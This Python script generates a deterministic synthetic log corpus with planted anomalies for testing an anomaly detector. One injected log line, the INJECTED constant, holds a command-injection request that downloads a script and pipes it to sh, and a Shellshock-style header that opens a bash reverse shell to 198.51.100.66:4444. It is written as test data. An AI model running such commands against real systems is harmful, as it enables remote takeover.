#!/usr/bin/env python3
"""Generate the demo corpus: datasets/demo.log and datasets/demo.jsonl.

Deterministic (fixed seed, no clock): running it twice produces identical bytes.

demo.log   ~5,000 lines of realistic web/app/db logs (plain text, LF) with a few
           injected anomalies: a very long line, a burst of unusual error text,
           a Java stack trace and an injected shell command in a request.
demo.jsonl the JSON-lines twin: one object per line with "timestamp" (ISO-8601,
           UTC, "Z"), "source", "message", "level", "latency_ms", "bytes" and
           "status"; a few injected latency spikes, an error burst and a
           slow-down of one source's event rate.

demo.labels (with --labels) one 0/1 per line: 1 where the line belongs to an injected
           anomaly, for scripts/eval-detection.py --synthetic.

Usage: scripts/gen-demo-log.py [--out-dir datasets] [--lines 5000] [--seed 20240611] [--labels]
"""

from __future__ import annotations

import argparse
import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

PATHS = [
    "/", "/index.html", "/login", "/logout", "/api/v1/orders", "/api/v1/orders/{id}",
    "/api/v1/users/{id}", "/api/v1/cart", "/static/app.{hash}.js", "/static/site.{hash}.css",
    "/healthz", "/metrics", "/api/v1/search?q={word}",
]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "curl/8.8.0",
    "kube-probe/1.30",
]
WORDS = ["lamp", "chair", "kettle", "laptop", "socks", "router", "desk", "monitor", "cable"]
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]
SOURCES = ["web", "api", "db", "auth", "worker"]


def ip(rng: random.Random) -> str:
    return f"203.0.113.{rng.randint(1, 254)}" if rng.random() < 0.7 else f"198.51.100.{rng.randint(1, 254)}"


def web_line(rng, ts):
    path = rng.choice(PATHS).format(id=rng.randint(1, 99999), hash=f"{rng.getrandbits(32):08x}", word=rng.choice(WORDS))
    method = "POST" if path in ("/login", "/api/v1/cart") and rng.random() < 0.6 else "GET"
    status = rng.choices([200, 200, 200, 304, 301, 404, 500], [60, 20, 10, 5, 2, 2, 1])[0]
    size = int(rng.lognormvariate(8, 1)) if status == 200 else rng.randint(0, 300)
    stamp = ts.strftime("%d/%b/%Y:%H:%M:%S +0000")
    msg = f'{ip(rng)} - - [{stamp}] "{method} {path} HTTP/1.1" {status} {size} "-" "{rng.choice(AGENTS)}"'
    return "web", "INFO", msg, status, size


def app_line(rng, ts):
    kind = rng.random()
    stamp = ts.strftime("%Y-%m-%d %H:%M:%S,") + f"{ts.microsecond // 1000:03d}"
    thread = f"http-nio-8080-exec-{rng.randint(1, 40)}"
    if kind < 0.45:
        oid = rng.randint(100000, 999999)
        msg = f"{stamp} INFO  [{thread}] c.e.shop.OrderService - order {oid} placed by user {rng.choice(USERS)} total={rng.randint(1, 500)}.{rng.randint(0, 99):02d} EUR"
        return "api", "INFO", msg, 200, rng.randint(200, 2000)
    if kind < 0.75:
        msg = f"{stamp} DEBUG [{thread}] o.h.SQL - select o.id, o.total, o.status from orders o where o.customer_id=? limit {rng.choice([10, 20, 50])}"
        return "db", "DEBUG", msg, 200, rng.randint(100, 900)
    if kind < 0.9:
        msg = f"{stamp} INFO  [auth-{rng.randint(1, 4)}] c.e.auth.SessionManager - session {rng.getrandbits(48):012x} refreshed for {rng.choice(USERS)}"
        return "auth", "INFO", msg, 200, rng.randint(100, 400)
    msg = f"{stamp} WARN  [scheduler-1] c.e.cache.RedisCache - slow response from redis 10.0.{rng.randint(0, 3)}.{rng.randint(2, 30)}:6379 took {rng.randint(120, 400)}ms"
    return "worker", "WARN", msg, 200, rng.randint(50, 200)


STACK = [
    "java.lang.IllegalStateException: Connection pool exhausted (max=50, active=50, idle=0)",
    "\tat com.zaxxer.hikari.pool.HikariPool.createTimeoutException(HikariPool.java:696)",
    "\tat com.zaxxer.hikari.pool.HikariPool.getConnection(HikariPool.java:181)",
    "\tat com.zaxxer.hikari.pool.HikariPool.getConnection(HikariPool.java:146)",
    "\tat com.zaxxer.hikari.HikariDataSource.getConnection(HikariDataSource.java:128)",
    "\tat org.hibernate.engine.jdbc.connections.internal.DatasourceConnectionProviderImpl.getConnection(DatasourceConnectionProviderImpl.java:122)",
    "\tat org.hibernate.internal.NonContextualJdbcConnectionAccess.obtainConnection(NonContextualJdbcConnectionAccess.java:38)",
    "\tat com.example.shop.OrderRepository.findByCustomer(OrderRepository.java:88)",
    "\tat com.example.shop.OrderService.listOrders(OrderService.java:142)",
    "\tat com.example.shop.OrderController.list(OrderController.java:57)",
    "\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)",
    "\tat java.base/java.lang.reflect.Method.invoke(Method.java:580)",
    "\tat org.springframework.web.servlet.DispatcherServlet.doDispatch(DispatcherServlet.java:1089)",
    "\t... 48 common frames omitted",
    "Caused by: java.sql.SQLTransientConnectionException: HikariPool-1 - Connection is not available, request timed out after 30000ms.",
    "\tat com.zaxxer.hikari.pool.HikariPool.createTimeoutException(HikariPool.java:686)",
    "\t... 61 common frames omitted",
]

BURST = [
    "kernel: [{n}.{f:06d}] EXT4-fs error (device nvme0n1p2): ext4_find_entry:1455: inode #{ino}: comm java: reading directory lblock 0",
    "kernel: [{n}.{f:06d}] blk_update_request: I/O error, dev nvme0n1, sector {sector} op 0x0:(READ) flags 0x80700 phys_seg 1 prio class 0",
    "kernel: [{n}.{f:06d}] Buffer I/O error on dev nvme0n1p2, logical block {block}, async page read",
]

INJECTED = (
    '198.51.100.66 - - [{stamp}] "GET /cgi-bin/status?cmd=%3Bcurl%20-s%20http%3A%2F%2F198.51.100.66%2Fx.sh%7Csh '
    'HTTP/1.1" 200 512 "-" "() {{ :; }}; /bin/bash -c \'bash -i >& /dev/tcp/198.51.100.66/4444 0>&1\'"'
)


def generate(n_lines: int, seed: int):
    """(ts, source, level, message, status, bytes, latency_ms, injected) records;
    `injected` is 1 on the lines of the planted anomalies."""
    rng = random.Random(seed)
    ts = datetime(2026, 1, 15, 9, 0, 0, tzinfo=timezone.utc)
    plan = {
        int(n_lines * 0.21): "long",
        int(n_lines * 0.38): "stack",
        int(n_lines * 0.55): "burst",
        int(n_lines * 0.72): "inject",
        int(n_lines * 0.86): "spikes",
    }
    out = []
    i = 0
    while len(out) < n_lines:
        ts += timedelta(microseconds=rng.randint(20_000, 900_000))
        special = plan.get(i)
        i += 1
        if special == "long":
            query = "&".join(f"filter[{rng.choice(WORDS)}_{k}]={rng.getrandbits(64):016x}" for k in range(260))
            msg = f'{ip(rng)} - - [{ts.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "GET /api/v1/search?{query} HTTP/1.1" 414 0 "-" "python-requests/2.32.3"'
            out.append((ts, "web", "ERROR", msg, 414, 0, 2.5, 1))
            continue
        if special == "stack":
            head = ts.strftime("%Y-%m-%d %H:%M:%S,") + f"{ts.microsecond // 1000:03d}"
            out.append((ts, "api", "ERROR", f"{head} ERROR [http-nio-8080-exec-17] c.e.shop.OrderController - request failed", 500, 0, 30012.0, 1))
            for frame in STACK:
                ts += timedelta(microseconds=rng.randint(10, 90))
                out.append((ts, "api", "ERROR", frame, 500, 0, 0.0, 1))
            continue
        if special == "burst":
            for k in range(24):
                ts += timedelta(microseconds=rng.randint(200, 3000))
                tpl = BURST[k % len(BURST)]
                msg = tpl.format(n=86400 + k, f=rng.randint(0, 999999), ino=rng.randint(10**6, 10**7),
                                 sector=rng.randint(10**8, 10**9), block=rng.randint(10**5, 10**6))
                out.append((ts, "worker", "ERROR", msg, 500, 0, round(rng.uniform(1, 5), 3), 1))
            continue
        if special == "inject":
            msg = INJECTED.format(stamp=ts.strftime("%d/%b/%Y:%H:%M:%S +0000"))
            out.append((ts, "web", "WARN", msg, 200, 512, 3.1, 1))
            continue
        if special == "spikes":
            for k in range(6):
                ts += timedelta(microseconds=rng.randint(20_000, 200_000))
                msg = f"{ts.strftime('%Y-%m-%d %H:%M:%S,')}{ts.microsecond // 1000:03d} WARN  [http-nio-8080-exec-{k + 3}] c.e.shop.OrderService - upstream payment gateway slow"
                out.append((ts, "api", "WARN", msg, 504, rng.randint(200, 400), round(rng.uniform(8000, 15000), 3), 1))
            continue
        gen = web_line if rng.random() < 0.55 else app_line
        source, level, msg, status, size = gen(rng, ts)
        base = {"web": 35.0, "api": 80.0, "db": 12.0, "auth": 25.0, "worker": 150.0}[source]
        latency = round(rng.lognormvariate(0, 0.35) * base, 3)
        out.append((ts, source, level, msg, status, size, latency, 0))
    return out[:n_lines]


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out-dir", default=str(Path(__file__).resolve().parent.parent / "datasets"))
    ap.add_argument("--lines", type=int, default=5000)
    ap.add_argument("--seed", type=int, default=20240611)
    ap.add_argument("--labels", action="store_true",
                    help="also write demo.labels: 1 on each injected line, else 0")
    args = ap.parse_args()
    out_dir = Path(args.out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    records = generate(args.lines, args.seed)
    with open(out_dir / "demo.log", "w", encoding="utf-8", newline="\n") as fh:
        for _ts, _src, _lvl, msg, _st, _sz, _lat, _label in records:
            fh.write(msg + "\n")
    with open(out_dir / "demo.jsonl", "w", encoding="utf-8", newline="\n") as fh:
        for ts, src, lvl, msg, st, sz, lat, _label in records:
            obj = {
                "timestamp": ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
                "source": src,
                "level": lvl,
                "message": msg,
                "status": st,
                "bytes": sz,
                "latency_ms": lat,
            }
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    if args.labels:
        with open(out_dir / "demo.labels", "w", encoding="utf-8", newline="\n") as fh:
            fh.writelines(f"{r[7]}\n" for r in records)
    print(f"wrote {len(records)} records to {out_dir}/demo.log and demo.jsonl")


if __name__ == "__main__":
    main()
